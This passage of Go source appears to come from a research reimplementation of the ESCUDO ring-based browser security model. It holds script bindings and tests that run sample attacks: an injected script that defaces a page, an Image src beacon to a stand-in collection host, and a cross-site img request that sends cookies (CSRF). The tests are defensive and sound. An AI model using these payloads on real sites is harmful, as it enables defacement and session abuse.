	// scoping rule stops the nested ring-0 claim.
	payload := `<div ring=0 id=nested>` +
		`<script>document.getElementById("appmsg").innerText = "NESTED-DEFACED";</script></div>`

	b := New(securityNetwork(payload), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if got := html.InnerText(p.Doc.ByID("appmsg")); got != "trusted" {
		t.Fatalf("with rule: app content = %q", got)
	}
	if nested := p.Doc.ByID("nested"); nested.Ring != 3 {
		t.Fatalf("with rule: nested ring = %d", nested.Ring)
	}

	b = New(securityNetwork(payload), Options{Mode: ModeEscudo, AblateScopingRule: true})
	p, err = b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if nested := p.Doc.ByID("nested"); nested == nil || nested.Ring != 0 {
		t.Fatalf("ablated: nested = %+v, want ring 0", nested)
	}
	if got := html.InnerText(p.Doc.ByID("appmsg")); got != "NESTED-DEFACED" {
		t.Errorf("ablated: app content = %q — the attack should have succeeded", got)
	}
}
