package browser

import (
	"errors"
	"fmt"
	"net/url"
	"strings"

	"repro/internal/cookie"
	"repro/internal/core"
	"repro/internal/dom"
	"repro/internal/html"
	"repro/internal/origin"
	"repro/internal/script"
)

// scriptEnv builds the execution environment for one principal:
// standard builtins plus the DOM and network modules, every binding
// funneling through the page's reference monitor with the principal's
// security context.
func (p *Page) scriptEnv(principal core.Context) *script.Env {
	env := script.StdEnv(p.browser.Console)
	if err := script.Install(env, p.DOMModule(principal), p.NetModule(principal)); err != nil {
		// The page modules never fail to install.
		panic("browser: script env install: " + err.Error())
	}
	return env
}

// DOMModule binds the document surface for one principal: document,
// window, and the Image constructor. Exposed as a script.Module so
// hosts embedding the engine (tests, the gateway's probe harness)
// compose the same surface the page installs.
func (p *Page) DOMModule(principal core.Context) script.Module {
	return script.Module{Name: "dom", Install: func(env *script.Env) error {
		api := dom.NewAPI(p.Doc, principal, p.Monitor)
		env.Define("document", &documentHost{page: p, api: api, principal: principal})
		env.Define("window", &windowHost{page: p, principal: principal})
		env.Define("Image", script.Func("Image", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			// new Image() is a detached img element; setting .src fires
			// the request, the classic exfiltration vector.
			el := api.CreateElement("img")
			return &elementHost{page: p, api: api, node: el, principal: principal}, nil
		}))
		return nil
	}}
}

// NetModule binds the network surface: the XMLHttpRequest constructor,
// use-mediated at open/send against the page's API ring.
func (p *Page) NetModule(principal core.Context) script.Module {
	return script.Module{Name: "net", Install: func(env *script.Env) error {
		env.Define("XMLHttpRequest", script.Func("XMLHttpRequest", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			return newXHRHost(p, principal)
		}))
		return nil
	}}
}

// documentHost exposes the document object.
type documentHost struct {
	page      *Page
	api       *dom.API
	principal core.Context
}

var _ script.HostObject = (*documentHost)(nil)

func (d *documentHost) HostName() string { return "HTMLDocument" }

func (d *documentHost) HostGet(name string) (script.Value, error) {
	switch name {
	case "cookie":
		return d.page.readCookieString(d.principal), nil
	case "origin":
		return d.page.Origin.String(), nil
	case "URL", "location":
		return d.page.URL, nil
	case "body":
		if body := d.page.Doc.Find(func(n *html.Node) bool {
			return n.Type == html.ElementNode && n.Tag == "body"
		}); body != nil {
			return &elementHost{page: d.page, api: d.api, node: body, principal: d.principal}, nil
		}
		return nil, nil
	case "getElementById":
		return script.Func("document.getElementById", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			if len(args) == 0 {
				return nil, nil
			}
			n, err := d.api.GetElementByID(script.ToString(args[0]))
			if err != nil {
				return nil, err
			}
			if n == nil {
				return nil, nil
			}
			return &elementHost{page: d.page, api: d.api, node: n, principal: d.principal}, nil
		}), nil
	case "getElementsByTagName":
		return script.Func("document.getElementsByTagName", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			if len(args) == 0 {
				return &script.Array{}, nil
			}
			arr := &script.Array{}
			for _, n := range d.api.GetElementsByTagName(script.ToString(args[0])) {
				arr.Elems = append(arr.Elems, &elementHost{page: d.page, api: d.api, node: n, principal: d.principal})
			}
			return arr, nil
		}), nil
	case "createElement":
		return script.Func("document.createElement", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			if len(args) == 0 {
				return nil, errors.New("createElement needs a tag")
			}
			el := d.api.CreateElement(script.ToString(args[0]))
			return &elementHost{page: d.page, api: d.api, node: el, principal: d.principal}, nil
		}), nil
	case "write":
		// Post-parse document.write: appends parsed markup to the
		// body, mediated as a write on the body and bounded by the
		// scoping rule — a ring-3 script cannot write a ring-0
		// principal into existence (§5).
		return script.Func("document.write", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			if len(args) == 0 {
				return nil, nil
			}
			body := d.page.Doc.Find(func(n *html.Node) bool {
				return n.Type == html.ElementNode && n.Tag == "body"
			})
			if body == nil {
				body = d.page.Doc.Root
			}
			if err := d.api.AppendHTML(body, script.ToString(args[0])); err != nil {
				return nil, err
			}
			// Scripts introduced by document.write execute
			// immediately, each under its own (bounded) context.
			d.page.runScripts()
			return nil, nil
		}), nil
	case "createTextNode":
		return script.Func("document.createTextNode", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			text := ""
			if len(args) > 0 {
				text = script.ToString(args[0])
			}
			el := d.api.CreateTextNode(text)
			return &elementHost{page: d.page, api: d.api, node: el, principal: d.principal}, nil
		}), nil
	}
	return nil, nil
}

func (d *documentHost) HostSet(name string, v script.Value) error {
	switch name {
	case "cookie":
		return d.page.writeCookieString(d.principal, script.ToString(v))
	case "location":
		abs, err := origin.Resolve(d.page.URL, script.ToString(v))
		if err != nil {
			return err
		}
		_, err = d.page.browser.NavigateFrom(d.principal, abs, "document.location")
		return err
	}
	return fmt.Errorf("document.%s is not assignable", name)
}

// readCookieString renders document.cookie for the principal: only the
// cookies the monitor lets it read are included — inner-ring session
// cookies are simply invisible to outer-ring scripts.
func (p *Page) readCookieString(principal core.Context) string {
	var parts []string
	for _, c := range p.browser.jar.Matching(p.Origin, "/") {
		if c.HTTPOnly {
			continue
		}
		if p.Monitor.Authorize(principal, core.OpRead, c.Context()).Allowed {
			parts = append(parts, c.Name+"="+c.Value)
		}
	}
	return strings.Join(parts, "; ")
}

// writeCookieString implements document.cookie assignment: the write
// is mediated against the (existing or configured) cookie object.
func (p *Page) writeCookieString(principal core.Context, value string) error {
	c, err := cookie.ParseSetCookie(value, p.Origin)
	if err != nil {
		return err
	}
	c.Ring, c.ACL = p.Config.CookieRing(c.Name)
	if existing, ok := p.browser.jar.Get(p.Origin, c.Name); ok {
		c.Ring, c.ACL = existing.Ring, existing.ACL
	}
	if d := p.Monitor.Authorize(principal, core.OpWrite, c.Context()); !d.Allowed {
		return &dom.DeniedError{Decision: d}
	}
	p.browser.jar.Set(c)
	return nil
}

// xhrHost is the XMLHttpRequest object. Invoking the API is
// use-mediated against the API's configured ring (§4.1 Native Code
// API: defaults to ring 0, "conforming to the fail-safe defaults
// guideline").
type xhrHost struct {
	page      *Page
	principal core.Context
	method    string
	url       string
	status    float64
	response  string
	opened    bool
}

var _ script.HostObject = (*xhrHost)(nil)

// newXHRHost constructs the XHR object; construction itself is free,
// use is checked at open/send.
func newXHRHost(p *Page, principal core.Context) (script.Value, error) {
	return &xhrHost{page: p, principal: principal}, nil
}

// apiContext returns the native-code API object context for this
// page.
func (p *Page) apiContext(name string) core.Context {
	ring := p.Config.APIRing(name)
	return core.Object(p.Origin, ring, core.UniformACL(ring), "api "+name)
}

func (x *xhrHost) HostName() string { return "XMLHttpRequest" }

func (x *xhrHost) HostGet(name string) (script.Value, error) {
	switch name {
	case "status":
		return x.status, nil
	case "responseText":
		return x.response, nil
	case "open":
		return script.Func("XMLHttpRequest.open", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			if len(args) < 2 {
				return nil, errors.New("open(method, url)")
			}
			if d := x.page.Monitor.Authorize(x.principal, core.OpUse, x.page.apiContext(core.APIXMLHTTPRequest)); !d.Allowed {
				return nil, &dom.DeniedError{Decision: d}
			}
			x.method = strings.ToUpper(script.ToString(args[0]))
			abs, err := origin.Resolve(x.page.URL, script.ToString(args[1]))
			if err != nil {
				return nil, err
			}
			x.url = abs
			x.opened = true
			return nil, nil
		}), nil
	case "send":
		return script.Func("XMLHttpRequest.send", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			if !x.opened {
				return nil, errors.New("send before open")
			}
			if d := x.page.Monitor.Authorize(x.principal, core.OpUse, x.page.apiContext(core.APIXMLHTTPRequest)); !d.Allowed {
				return nil, &dom.DeniedError{Decision: d}
			}
			// The classic XHR same-origin restriction applies in
			// both modes (no CORS in this model).
			target, err := origin.Parse(x.url)
			if err != nil {
				return nil, err
			}
			if !target.SameOrigin(x.page.Origin) {
				return nil, fmt.Errorf("xhr: cross-origin request to %s blocked", target)
			}
			var form url.Values
			if x.method == "POST" && len(args) > 0 {
				form, err = url.ParseQuery(script.ToString(args[0]))
				if err != nil {
					form = url.Values{}
				}
			}
			resp, err := x.page.browser.fetch(x.method, x.url, form, x.principal, "xhr")
			if err != nil {
				return nil, err
			}
			x.status = float64(resp.Status)
			x.response = resp.Body
			return nil, nil
		}), nil
	}
	return nil, nil
}

func (x *xhrHost) HostSet(name string, v script.Value) error {
	return fmt.Errorf("XMLHttpRequest.%s is not assignable", name)
}

// windowHost exposes window: location, history, and page metadata.
type windowHost struct {
	page      *Page
	principal core.Context
}

var _ script.HostObject = (*windowHost)(nil)

func (w *windowHost) HostName() string { return "Window" }

func (w *windowHost) HostGet(name string) (script.Value, error) {
	switch name {
	case "location":
		return w.page.URL, nil
	case "origin":
		return w.page.Origin.String(), nil
	case "history":
		return &historyHost{page: w.page, principal: w.principal}, nil
	}
	return nil, nil
}

func (w *windowHost) HostSet(name string, v script.Value) error {
	if name == "location" {
		abs, err := origin.Resolve(w.page.URL, script.ToString(v))
		if err != nil {
			return err
		}
		_, err = w.page.browser.NavigateFrom(w.principal, abs, "window.location")
		return err
	}
	return fmt.Errorf("window.%s is not assignable", name)
}

// historyHost exposes window.history under the §4.1 browser-state
// rule: ring 0 only, not configurable.
type historyHost struct {
	page      *Page
	principal core.Context
}

var _ script.HostObject = (*historyHost)(nil)

func (h *historyHost) HostName() string { return "History" }

func (h *historyHost) authorize(op core.Op) error {
	if d := h.page.Monitor.Authorize(h.principal, op, historyContext(h.page.Origin)); !d.Allowed {
		return &dom.DeniedError{Decision: d}
	}
	return nil
}

func (h *historyHost) HostGet(name string) (script.Value, error) {
	switch name {
	case "length":
		if err := h.authorize(core.OpRead); err != nil {
			return nil, err
		}
		return float64(h.page.browser.history.Len()), nil
	case "back":
		// Instructing the browser to re-render a previous page is a
		// use of browser state (§4.1), ring-0-only like the reads.
		return script.Func("history.back", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			if err := h.authorize(core.OpUse); err != nil {
				return nil, err
			}
			if _, err := h.page.browser.Back(); err != nil {
				return nil, err
			}
			return nil, nil
		}), nil
	case "visited":
		// A deliberate sniffing API: real attacks infer this from
		// link colors; the model exposes it directly so the ring-0
		// protection is testable.
		return script.Func("history.visited", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			if err := h.authorize(core.OpRead); err != nil {
				return nil, err
			}
			if len(args) == 0 {
				return false, nil
			}
			return h.page.browser.history.Visited(script.ToString(args[0])), nil
		}), nil
	}
	return nil, nil
}

func (h *historyHost) HostSet(name string, v script.Value) error {
	return errors.New("history is not assignable")
}

// elementHost wraps a DOM node for scripts.
type elementHost struct {
	page      *Page
	api       *dom.API
	node      *html.Node
	principal core.Context
}

var _ script.HostObject = (*elementHost)(nil)

func (e *elementHost) HostName() string { return "Element<" + e.node.Tag + ">" }

func (e *elementHost) HostGet(name string) (script.Value, error) {
	switch name {
	case "tagName":
		return strings.ToUpper(e.node.Tag), nil
	case "id":
		v, _ := e.node.Attr("id")
		return v, nil
	case "innerHTML":
		return e.api.InnerHTML(e.node)
	case "innerText", "textContent":
		return e.api.InnerText(e.node)
	case "parentNode":
		if e.node.Parent == nil {
			return nil, nil
		}
		return &elementHost{page: e.page, api: e.api, node: e.node.Parent, principal: e.principal}, nil
	case "getAttribute":
		return script.Func("getAttribute", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			if len(args) == 0 {
				return nil, nil
			}
			v, err := e.api.GetAttribute(e.node, script.ToString(args[0]))
			if err != nil {
				return nil, err
			}
			return v, nil
		}), nil
	case "setAttribute":
		return script.Func("setAttribute", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			if len(args) < 2 {
				return nil, errors.New("setAttribute(name, value)")
			}
			name := script.ToString(args[0])
			value := script.ToString(args[1])
			if err := e.api.SetAttribute(e.node, name, value); err != nil {
				return nil, err
			}
			e.maybeFetchSrc(name, value)
			return nil, nil
		}), nil
	case "appendChild":
		return script.Func("appendChild", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			if len(args) == 0 {
				return nil, errors.New("appendChild(node)")
			}
			child, ok := args[0].(*elementHost)
			if !ok {
				return nil, errors.New("appendChild needs an element")
			}
			if err := e.api.AppendChild(e.node, child.node); err != nil {
				return nil, err
			}
			return args[0], nil
		}), nil
	case "removeChild":
		return script.Func("removeChild", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			if len(args) == 0 {
				return nil, errors.New("removeChild(node)")
			}
			child, ok := args[0].(*elementHost)
			if !ok {
				return nil, errors.New("removeChild needs an element")
			}
			if err := e.api.RemoveChild(e.node, child.node); err != nil {
				return nil, err
			}
			return args[0], nil
		}), nil
	case "click":
		return script.Func("click", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			// Script-initiated click: the script is the event
			// deliverer (a use), then anchors navigate.
			if err := e.page.DispatchEvent(e.node, "click", &e.principal); err != nil {
				return nil, err
			}
			if e.node.Tag == "a" {
				if _, err := e.page.ClickAnchor(e.node); err != nil {
					return nil, err
				}
			}
			return nil, nil
		}), nil
	case "submit":
		return script.Func("submit", func(_ *script.Ctx, args []script.Value) (script.Value, error) {
			if e.node.Tag != "form" {
				return nil, errors.New("submit on non-form")
			}
			// Script-driven submission is a use of the form by the
			// script, then the form acts as the issuing principal.
			if d := e.page.Monitor.Authorize(e.principal, core.OpUse, e.page.Doc.NodeContext(e.node)); !d.Allowed {
				return nil, &dom.DeniedError{Decision: d}
			}
			resp, err := e.page.SubmitForm(e.node, nil)
			if err != nil {
				return nil, err
			}
			return float64(resp.Status), nil
		}), nil
	}
	return nil, nil
}

func (e *elementHost) HostSet(name string, v script.Value) error {
	switch name {
	case "innerHTML":
		return e.api.SetInnerHTML(e.node, script.ToString(v))
	case "innerText", "textContent":
		return e.api.SetText(e.node, script.ToString(v))
	case "src":
		if err := e.api.SetAttribute(e.node, "src", script.ToString(v)); err != nil {
			return err
		}
		e.maybeFetchSrc("src", script.ToString(v))
		return nil
	case "value":
		return e.api.SetAttribute(e.node, "value", script.ToString(v))
	case "id", "class", "href", "action", "name":
		return e.api.SetAttribute(e.node, name, script.ToString(v))
	}
	return fmt.Errorf("element.%s is not assignable", name)
}

// maybeFetchSrc fires the subresource request when a script points an
// img/iframe at a URL — the standard exfiltration channel in the XSS
// corpus. The *script* is the initiator: it set the source, so the
// request runs with its privileges.
func (e *elementHost) maybeFetchSrc(attr, value string) {
	if attr != "src" || value == "" {
		return
	}
	if e.node.Tag != "img" && e.node.Tag != "iframe" && e.node.Tag != "embed" {
		return
	}
	abs, err := origin.Resolve(e.page.URL, value)
	if err != nil {
		return
	}
	_, _ = e.page.browser.fetch("GET", abs, nil, e.principal, e.node.Tag+".src")
}
