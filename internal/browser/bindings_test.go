package browser

import (
	"errors"
	"testing"

	"repro/internal/core"
	"repro/internal/dom"
	"repro/internal/html"
	"repro/internal/origin"
	"repro/internal/web"
)

// bindingsNetwork serves one configured page with app and user
// regions plus a couple of endpoints.
func bindingsNetwork() *web.Network {
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		switch req.Path() {
		case "/":
			resp := web.HTML(`<html><body>` +
				`<div ring=1 r=1 w=1 x=1 id=app><p id=one>first</p><p id=two>second</p></div>` +
				`<div ring=3 r=3 w=3 x=3 id=user>content</div>` +
				`</body></html>`)
			resp.Header.Set(core.HeaderMaxRing, "3")
			resp.Header.Add("Set-Cookie", "sid=v1; Path=/")
			resp.Header.Add(core.HeaderCookie, "sid; ring=1; r=1; w=1; x=1")
			resp.Header.Add(core.HeaderAPI, "xmlhttprequest; ring=2")
			return resp
		case "/next":
			return web.HTML(`<p id=arrived>next page</p>`)
		case "/submit":
			return web.HTML("ok")
		default:
			return web.HTML("")
		}
	}))
	return net
}

func loadBindings(t *testing.T, mode Mode) (*Browser, *Page, *web.Network) {
	t.Helper()
	net := bindingsNetwork()
	b := New(net, Options{Mode: mode})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	net.ResetLog()
	return b, p, net
}

func TestBindingDocumentProperties(t *testing.T) {
	b, p, _ := loadBindings(t, ModeEscudo)
	err := p.RunScriptRing(1, "s", `
log(document.origin);
log(document.URL);
log(window.origin);
log(document.body.tagName);`)
	if err != nil {
		t.Fatal(err)
	}
	lines := b.Console.Lines()
	want := []string{"http://app.example", "http://app.example/", "http://app.example", "BODY"}
	for i, w := range want {
		if lines[i] != w {
			t.Errorf("line %d = %q, want %q", i, lines[i], w)
		}
	}
}

func TestBindingGetElementsByTagName(t *testing.T) {
	b, p, _ := loadBindings(t, ModeEscudo)
	if err := p.RunScriptRing(1, "s", `
var ps = document.getElementsByTagName("p");
log("count=" + ps.length);
log("first=" + ps[0].innerText);`); err != nil {
		t.Fatal(err)
	}
	lines := b.Console.Lines()
	if lines[0] != "count=2" || lines[1] != "first=first" {
		t.Errorf("lines = %v", lines)
	}
}

func TestBindingCreateAndAppend(t *testing.T) {
	_, p, _ := loadBindings(t, ModeEscudo)
	err := p.RunScriptRing(1, "s", `
var el = document.createElement("span");
el.id = "made";
var txt = document.createTextNode("made text");
el.appendChild(txt);
document.getElementById("app").appendChild(el);`)
	if err != nil {
		t.Fatal(err)
	}
	made := p.Doc.ByID("made")
	if made == nil || html.InnerText(made) != "made text" {
		t.Fatalf("made = %+v", made)
	}
	if made.Ring != 1 {
		t.Errorf("ring = %d, want 1", made.Ring)
	}
}

func TestBindingParentNodeAndRemove(t *testing.T) {
	b, p, _ := loadBindings(t, ModeEscudo)
	err := p.RunScriptRing(1, "s", `
var one = document.getElementById("one");
var parent = one.parentNode;
log("parent=" + parent.id);
parent.removeChild(one);`)
	if err != nil {
		t.Fatal(err)
	}
	if lines := b.Console.Lines(); lines[0] != "parent=app" {
		t.Errorf("lines = %v", lines)
	}
	if p.Doc.ByID("one") != nil {
		t.Error("element not removed")
	}
}

func TestBindingWindowLocationNavigates(t *testing.T) {
	_, p, net := loadBindings(t, ModeEscudo)
	if err := p.RunScriptRing(1, "s", `window.location = "/next";`); err != nil {
		t.Fatal(err)
	}
	reqs := net.FindRequests(site, func(e web.LogEntry) bool { return e.Path == "/next" })
	if len(reqs) != 1 {
		t.Fatalf("reqs = %v", reqs)
	}
	// Ring-1 initiator carries the ring-1 cookie.
	if !reqs[0].HasCookie("sid") {
		t.Error("same-origin ring-1 navigation must carry the cookie")
	}
	// A ring-3 initiator does not.
	net.ResetLog()
	if err := p.RunScriptRing(3, "s3", `document.location = "/next";`); err != nil {
		t.Fatal(err)
	}
	reqs = net.FindRequests(site, func(e web.LogEntry) bool { return e.Path == "/next" })
	if len(reqs) != 1 || reqs[0].HasCookie("sid") {
		t.Errorf("ring-3 navigation reqs = %+v", reqs)
	}
}

func TestBindingImageSrcFiresWithScriptInitiator(t *testing.T) {
	evil := origin.MustParse("http://collect.example")
	net := bindingsNetwork()
	net.Register(evil, web.HandlerFunc(func(req *web.Request) *web.Response { return web.HTML("") }))
	b := New(net, Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	net.ResetLog()
	if err := p.RunScriptRing(3, "s", `var i = new Image(); i.src = "http://collect.example/px";`); err != nil {
		t.Fatal(err)
	}
	reqs := net.FindRequests(evil, nil)
	if len(reqs) != 1 {
		t.Fatalf("reqs = %v", reqs)
	}
	if reqs[0].InitiatorOrigin != site {
		t.Errorf("initiator = %v", reqs[0].InitiatorOrigin)
	}
	_ = b
}

func TestBindingXHRRingTwo(t *testing.T) {
	// This page grants XHR at ring 2: ring-2 succeeds, ring-3 fails.
	_, p, _ := loadBindings(t, ModeEscudo)
	if err := p.RunScriptRing(2, "ok", `var x = new XMLHttpRequest(); x.open("GET", "/submit"); x.send();`); err != nil {
		t.Fatalf("ring-2 xhr: %v", err)
	}
	err := p.RunScriptRing(3, "no", `var x = new XMLHttpRequest(); x.open("GET", "/submit");`)
	var denied *dom.DeniedError
	if !errors.As(err, &denied) {
		t.Errorf("ring-3 xhr err = %v", err)
	}
}

func TestBindingXHRPostForm(t *testing.T) {
	var gotForm string
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		if req.Path() == "/post" {
			gotForm = req.Form.Get("a") + "," + req.Form.Get("b")
			return web.HTML("posted")
		}
		resp := web.HTML(`<p>page</p>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		resp.Header.Add(core.HeaderAPI, "xmlhttprequest; ring=3")
		return resp
	}))
	b := New(net, Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	err = p.RunScriptRing(3, "s", `
var x = new XMLHttpRequest();
x.open("POST", "/post");
x.send("a=1&b=two");
log(x.status + ":" + x.responseText);`)
	if err != nil {
		t.Fatal(err)
	}
	if gotForm != "1,two" {
		t.Errorf("form = %q", gotForm)
	}
	if lines := b.Console.Lines(); lines[0] != "200:posted" {
		t.Errorf("lines = %v", lines)
	}
}

func TestBindingHostObjectErrors(t *testing.T) {
	_, p, _ := loadBindings(t, ModeEscudo)
	cases := []string{
		`document.cookie();`,                      // property, not function
		`window.history = 1;`,                     // read-only
		`document.title = "x";`,                   // unsupported assignment
		`var x = new XMLHttpRequest(); x.send();`, // send before open
		`var x = new XMLHttpRequest(); x.status = 7;`,
	}
	for _, src := range cases {
		if err := p.RunScriptRing(0, "s", src); err == nil {
			t.Errorf("%s: want error", src)
		}
	}
}

func TestSOPModeAttachesCookiesToAnyInitiator(t *testing.T) {
	// The CSRF root cause (§2.3): under SOP, cookies attach to the
	// target's requests no matter who initiated them.
	evil := origin.MustParse("http://evil.example")
	net := bindingsNetwork()
	net.Register(evil, web.HandlerFunc(func(req *web.Request) *web.Response {
		return web.HTML(`<img src="http://app.example/submit">`)
	}))
	b := New(net, Options{Mode: ModeSOP})
	if _, err := b.Navigate(site.URL("/")); err != nil {
		t.Fatal(err)
	}
	net.ResetLog()
	if _, err := b.Navigate(evil.URL("/")); err != nil {
		t.Fatal(err)
	}
	reqs := net.FindRequests(site, func(e web.LogEntry) bool { return e.Path == "/submit" })
	if len(reqs) != 1 || !reqs[0].HasCookie("sid") {
		t.Errorf("SOP cross-site img must carry the cookie: %+v", reqs)
	}
	// The same flow under ESCUDO: request issued, cookie withheld.
	b2 := New(net, Options{Mode: ModeEscudo})
	if _, err := b2.Navigate(site.URL("/")); err != nil {
		t.Fatal(err)
	}
	net.ResetLog()
	if _, err := b2.Navigate(evil.URL("/")); err != nil {
		t.Fatal(err)
	}
	reqs = net.FindRequests(site, func(e web.LogEntry) bool { return e.Path == "/submit" })
	if len(reqs) != 1 {
		t.Fatalf("escudo reqs = %+v", reqs)
	}
	if reqs[0].HasCookie("sid") {
		t.Error("ESCUDO cross-site img must not carry the cookie")
	}
}

func TestClickAnchorNavigates(t *testing.T) {
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		if req.Path() == "/next" {
			return web.HTML(`<p id=arrived>here</p>`)
		}
		resp := web.HTML(`<div ring=1 r=1 w=1 x=1 id=app><a id=go href="/next">go</a></div>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	b := New(net, Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	p2, err := p.ClickAnchor(p.Doc.ByID("go"))
	if err != nil {
		t.Fatal(err)
	}
	if p2.Doc.ByID("arrived") == nil {
		t.Error("navigation did not arrive")
	}
	if b.History().Len() != 2 {
		t.Errorf("history = %d", b.History().Len())
	}
	// Error paths.
	if _, err := p.ClickAnchor(nil); err == nil {
		t.Error("nil anchor must error")
	}
	if _, err := p.ClickAnchor(p.Doc.ByID("app")); err == nil {
		t.Error("non-anchor must error")
	}
}

func TestSubmitFormErrors(t *testing.T) {
	_, p, _ := loadBindings(t, ModeEscudo)
	if _, err := p.SubmitForm(nil, nil); err == nil {
		t.Error("nil form must error")
	}
	if _, err := p.SubmitForm(p.Doc.ByID("app"), nil); err == nil {
		t.Error("non-form must error")
	}
}

func TestDispatchEventNoHandler(t *testing.T) {
	_, p, _ := loadBindings(t, ModeEscudo)
	// No onclick attribute: delivery succeeds, nothing runs.
	if err := p.DispatchEvent(p.Doc.ByID("one"), "click", nil); err != nil {
		t.Errorf("event without handler: %v", err)
	}
	if err := p.DispatchEvent(nil, "click", nil); err == nil {
		t.Error("nil target must error")
	}
}

func TestScriptClickOnAnchor(t *testing.T) {
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<div ring=1 r=1 w=1 x=1 id=app><a id=go href="/next">go</a></div>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	b := New(net, Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	net.ResetLog()
	if err := p.RunScriptRing(1, "s", `document.getElementById("go").click();`); err != nil {
		t.Fatal(err)
	}
	if got := net.FindRequests(site, func(e web.LogEntry) bool { return e.Path == "/next" }); len(got) != 1 {
		t.Errorf("click did not navigate: %v", got)
	}
}
