package browser

import (
	"testing"

	"repro/internal/core"
	"repro/internal/dom"
	"repro/internal/origin"
	"repro/internal/web"
)

// frameNetwork: the app origin serves a page embedding a same-origin
// frame and a cross-origin frame.
func frameNetwork() *web.Network {
	other := origin.MustParse("http://widget.example")
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		switch req.Path() {
		case "/":
			resp := web.HTML(`<div ring=1 r=1 w=1 x=1 id=app>` +
				`<iframe id=own src="/inner"></iframe>` +
				`<iframe id=foreign src="http://widget.example/"></iframe>` +
				`<iframe id=dead src="http://missing.example/"></iframe>` +
				`</div>`)
			resp.Header.Set(core.HeaderMaxRing, "3")
			return resp
		case "/inner":
			resp := web.HTML(`<div ring=2 r=2 w=2 x=2 id=inner-content>inner text</div>`)
			resp.Header.Set(core.HeaderMaxRing, "3")
			return resp
		case "/recurse":
			resp := web.HTML(`<iframe src="/recurse"></iframe>`)
			resp.Header.Set(core.HeaderMaxRing, "3")
			return resp
		default:
			return web.NotFound()
		}
	}))
	net.Register(other, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<div ring=1 r=1 w=1 x=1 id=widget-content>widget</div>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	return net
}

func TestFramesLoadAsPages(t *testing.T) {
	b := New(frameNetwork(), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Frames) != 3 {
		t.Fatalf("frames = %d, want 3", len(p.Frames))
	}
	own := p.Frames[0]
	if own.Page == nil || own.Page.Doc.ByID("inner-content") == nil {
		t.Error("same-origin frame did not load")
	}
	if own.Page.Origin != site {
		t.Errorf("frame origin = %v", own.Page.Origin)
	}
	foreign := p.Frames[1]
	if foreign.Page == nil || foreign.Page.Doc.ByID("widget-content") == nil {
		t.Error("cross-origin frame did not load")
	}
	if dead := p.Frames[2]; dead.Page != nil {
		t.Error("unreachable frame must have nil page")
	}
	// Frames do not pollute session history.
	if b.History().Len() != 1 {
		t.Errorf("history = %d, want 1", b.History().Len())
	}
}

func TestFrameRingCompatibilitySameOrigin(t *testing.T) {
	// §4: "The rings of web pages belonging to the same origin are
	// compatible with each other." A ring-1 principal of the parent
	// page may manipulate ring-2 content in a same-origin frame,
	// while a ring-3 parent principal may not.
	b := New(frameNetwork(), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	framePage := p.Frames[0].Page
	inner := framePage.Doc.ByID("inner-content")

	api1 := dom.NewAPI(framePage.Doc, core.Principal(site, 1, "parent-ring1"), framePage.Monitor)
	if err := api1.SetText(inner, "edited by parent"); err != nil {
		t.Errorf("same-origin ring-1 cross-frame write: %v", err)
	}
	api3 := dom.NewAPI(framePage.Doc, core.Principal(site, 3, "parent-ring3"), framePage.Monitor)
	if err := api3.SetText(inner, "x"); err == nil {
		t.Error("ring-3 parent principal must not write ring-2 frame content")
	}
}

func TestFrameCrossOriginIsolated(t *testing.T) {
	b := New(frameNetwork(), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	widgetPage := p.Frames[1].Page
	content := widgetPage.Doc.ByID("widget-content")
	// Even a ring-0 parent principal is cross-origin to the widget
	// frame: origin rule denies.
	api := dom.NewAPI(widgetPage.Doc, core.Principal(site, 0, "parent"), widgetPage.Monitor)
	if _, err := api.InnerText(content); err == nil {
		t.Error("cross-origin frame content must be unreachable")
	}
}

func TestFrameDepthBounded(t *testing.T) {
	b := New(frameNetwork(), Options{Mode: ModeEscudo, MaxFrameDepth: 2})
